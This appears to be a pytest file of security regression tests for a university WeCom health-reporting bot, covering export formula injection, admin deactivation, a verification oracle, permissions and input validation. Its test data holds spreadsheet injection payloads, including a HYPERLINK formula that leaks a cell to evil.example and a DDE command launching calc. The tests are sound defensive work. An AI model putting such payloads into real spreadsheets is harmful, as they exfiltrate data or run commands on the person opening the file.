"""Issue 12's reproductions, one test each: formula injection in exports, a deactivated admin,
the GET verification oracle, long userids on PostgreSQL, roster order, readiness, coordinates
and the SQLite file's permissions. Each failed on 673a0a6."""

from __future__ import annotations

import csv
import io
import logging
import os
import stat
from collections.abc import AsyncIterator
from datetime import date
from pathlib import Path

import aiohttp
import openpyxl
import pytest
import sqlalchemy as sa

from app.cli import main
from app.emulator.api import WeComEmulator
from bot.clock import FixedClock
from bot.wecom.crypto import WeComCrypto
from storage.db import Database
from storage.export import ExportRow, write_csv, write_xlsx
from storage.models import BasicInfo, InboundEvent, Member, Unit
from storage.units import reviewed_units
from tests.harness import ROSTER, Bot, pick, say, seen, start_bot

SETTINGS_TOML = Path(__file__).parent.parent / "settings.toml"
EVIL = '=HYPERLINK("http://evil.example/?"&B2,"点我")'


# ---- 1. spreadsheet formula injection --------------------------------------------------------

def evil_row(remarks: str) -> ExportRow:
    return ExportRow(day=date(2026, 11, 30), userid="s1", name="@SUM(1+1)", unit="u",
                     status="reported", filled_by="s1", answers={"remarks": remarks,
                                                                 "temperature": -0.5})


@pytest.mark.parametrize("payload", [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
                                     "\t=1+1", "\r=1+1"])
def test_csv_export_neutralises_formula_cells(payload: str) -> None:
    out = io.StringIO()
    write_csv([evil_row(payload)], out)
    header, row = list(csv.reader(io.StringIO(out.getvalue())))
    cells = dict(zip(header, row, strict=True))
    assert cells["remarks"] == "'" + payload
    assert cells["name"] == "'@SUM(1+1)"
    assert cells["temperature"] == "-0.5"  # numbers stay numbers


def test_xlsx_export_writes_text_never_a_formula(tmp_path: Path) -> None:
    path = tmp_path / "x.xlsx"
    write_xlsx([evil_row(EVIL)], path)
    sheet = openpyxl.load_workbook(path).active
    header = [c.value for c in sheet[1]]
    remarks = sheet.cell(row=2, column=header.index("remarks") + 1)
    # The exact text in a text cell, quote-prefixed by its style (QA #11), never a formula.
    assert (remarks.data_type, remarks.value, remarks.quotePrefix) == ("s", EVIL, True)
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []


# ---- 4. a deactivated admin keeps full powers ------------------------------------------------

async def test_a_deactivated_admin_or_reviewer_sees_no_unit(tmp_path: Path) -> None:
    db = Database(f"sqlite:///{tmp_path / 'u.db'}")
    await db.create_schema()
    try:
        async with db.session() as session:
            admin = Member(userid="a", name="A", role="admin", active=False)
            reviewer = Member(userid="r", name="R", role="reviewer", active=False)
            assert await reviewed_units(session, admin) == set()
            assert await reviewed_units(session, reviewer) == set()
            admin.active = True
            assert await reviewed_units(session, admin) is None  # every unit
    finally:
        await db.dispose()


async def test_a_deactivated_admin_gets_no_university_stats(bot: Bot) -> None:
    async with bot.db.transaction() as session:
        await session.execute(sa.update(Member).where(Member.userid == "admin")
                              .values(active=False))
    before = " ".join(await say(bot, "admin", "统计"))
    assert "民族学与社会学学院" not in before and "国际教育学院" not in before


# ---- 5. URL verification is not a decryption oracle ------------------------------------------

async def _get(bot: Bot, params: dict[str, str]) -> tuple[int, str]:
    async with aiohttp.ClientSession() as http, http.get(bot.url, params=params) as response:
        return response.status, await response.text()


async def test_a_captured_message_sent_back_as_echostr_is_not_decrypted(bot: Bot) -> None:
    emu = bot.emulator
    crypto = WeComCrypto(emu.token, emu.encoding_aes_key, emu.corp_id)
    secret = ("<xml><ToUserName><![CDATA[ww_emulated_corp]]></ToUserName><FromUserName>"
              "<![CDATA[zhangsan]]></FromUserName><Content><![CDATA[体温 38.5 手机 13800000002]]>"
              "</Content></xml>")
    timestamp = str(int(bot.clock.now().timestamp()))
    encrypted, signature, timestamp, nonce = crypto.encrypt(secret, timestamp=timestamp)
    status, body = await _get(bot, {"msg_signature": signature, "timestamp": timestamp,
                                    "nonce": nonce, "echostr": encrypted})
    assert status == 403 and "38.5" not in body and "1380" not in body


async def test_a_verification_signed_thirty_days_ago_is_refused(bot: Bot) -> None:
    emu = bot.emulator
    crypto = WeComCrypto(emu.token, emu.encoding_aes_key, emu.corp_id)
    old = str(int(bot.clock.now().timestamp()) - 30 * 86400)
    encrypted, signature, timestamp, nonce = crypto.encrypt("1288432023552776189", timestamp=old)
    status, body = await _get(bot, {"msg_signature": signature, "timestamp": timestamp,
                                    "nonce": nonce, "echostr": encrypted})
    assert status == 403 and "1288432023552776189" not in body
    assert await emu.verify_url("1288432023552776189") == "1288432023552776189"  # fresh: fine


# ---- 6. a userid longer than 32 characters can finish basic information ----------------------

LONG = "a" * 40 + "@example.edu.cn"


@pytest.fixture
async def long_bot(emulator: WeComEmulator, db_url: str, clock: FixedClock
                   ) -> AsyncIterator[Bot]:
    roster = ROSTER + f"{LONG},王五,民族学与社会学学院,member,13800000009,中央民族大学,\n"
    b = await start_bot(emulator, db_url, clock=clock, roster=roster)
    yield b
    await b.stop()


async def test_a_long_userid_finishes_basic_information_and_nothing_leaks_to_the_log(
        long_bot: Bot, caplog: pytest.LogCaptureFixture) -> None:
    bot = long_bot
    caplog.set_level(logging.DEBUG)
    seen(bot, LONG)
    await say(bot, LONG, "信息")
    await pick(bot, LONG, "prefill", "1")      # name from the roster
    out = await say(bot, LONG, "2026123456")   # the ID is typed: the userid is not one
    assert out, "the member heard nothing"
    await say(bot, LONG, "13912345678")
    await pick(bot, LONG, "yes", "1")
    await pick(bot, LONG, "student", "1")
    await pick(bot, LONG, "submit", "1")
    async with bot.db.session() as session:
        info = await session.get(BasicInfo, LONG)
    assert info is not None and info.staff_no == "2026123456"
    assert "13912345678" not in caplog.text


# ---- 8. roster order, readiness, coordinates, file permissions -------------------------------

def test_roster_import_takes_a_child_unit_before_its_parent(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("YQT_DATABASE__URL", f"sqlite:///{tmp_path / 'r.db'}")
    path = tmp_path / "roster.csv"
    path.write_text("userid,name,unit,role,mobile,parent_unit\n"
                    "s1,张三,a_class,member,,z_college\n"
                    "t1,王老师,z_college,reviewer,,\n", "utf-8")
    assert main(["--config", str(SETTINGS_TOML), "roster", "import", str(path)]) == 0

    async def units() -> dict[str, str | None]:
        db = Database(f"sqlite:///{tmp_path / 'r.db'}")
        try:
            async with db.session() as session:
                return {u.id: u.parent_id for u in (await session.execute(sa.select(Unit)))
                        .scalars()}
        finally:
            await db.dispose()

    import asyncio
    assert asyncio.run(units()) == {"a_class": "z_college", "z_college": None}


async def test_readyz_fails_while_healthz_stays_up_when_the_schema_is_not_current(
        bot: Bot) -> None:
    base = bot.url.replace(bot.settings.server.callback_path, "")
    async with aiohttp.ClientSession() as http:
        async with http.get(base + "/readyz") as response:
            assert response.status == 200
        async with bot.db.transaction() as session:
            await session.execute(sa.text("UPDATE alembic_version SET version_num = '999'"))
        async with http.get(base + "/readyz") as response:
            assert response.status == 503
            assert "999" in (await response.json())["reason"]
        async with http.get(base + "/healthz") as response:
            assert response.status == 200


async def test_readiness_says_unreachable_when_the_database_refuses_connections() -> None:
    from storage.db import readiness

    db = Database("postgresql+asyncpg://postgres@127.0.0.1:9/nothing")
    try:
        ok, reason = await readiness(db)
    finally:
        await db.dispose()
    assert not ok and "unreachable" in reason


@pytest.mark.parametrize("lat,lng", [("nan", "116.3"), ("39.9", "inf"), ("-inf", "1"),
                                     ("91", "116"), ("39.9", "181")])
async def test_non_finite_or_impossible_coordinates_are_refused(bot: Bot, lat: str,
                                                                lng: str) -> None:
    result = await bot.emulator.send_event("zhangsan", "LOCATION", Latitude=lat, Longitude=lng,
                                           Precision="30")
    assert result.status == 400
    async with bot.db.session() as session:
        assert (await session.execute(sa.select(sa.func.count()).select_from(InboundEvent))
                ).scalar_one() == 0
        member = await session.get(Member, "zhangsan")
    assert member is not None and member.last_lat is None


def test_the_sqlite_file_is_created_readable_by_its_owner_only(tmp_path: Path) -> None:
    import asyncio

    async def create() -> None:
        db = Database(f"sqlite:///{tmp_path / 'p.db'}")
        await db.create_schema()
        await db.dispose()

    old = os.umask(0o022)
    try:
        asyncio.run(create())
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "p.db").stat().st_mode) == 0o600


def test_ids_draw_every_character_of_their_alphabet_evenly() -> None:
    """Receipts and card task ids are random ids: every character of the alphabet (lowercase
    letters without l and o, digits 2-9) about equally often, nothing else, and the length
    asked for. 32,000 characters: each expected 1,000 times (sd ≈ 31)."""
    from collections import Counter

    from handlers.context import _ID_ALPHABET, new_id

    ids = [new_id() for _ in range(3_200)]
    assert {len(i) for i in ids} == {10} and len(set(ids)) == len(ids)
    assert len(new_id(12)) == 12 and len(new_id(8)) == 8
    counts = Counter("".join(ids))
    assert set(counts) == set(_ID_ALPHABET) == set("abcdefghijkmnpqrstuvwxyz23456789")
    assert all(800 < n < 1_200 for n in counts.values()), counts
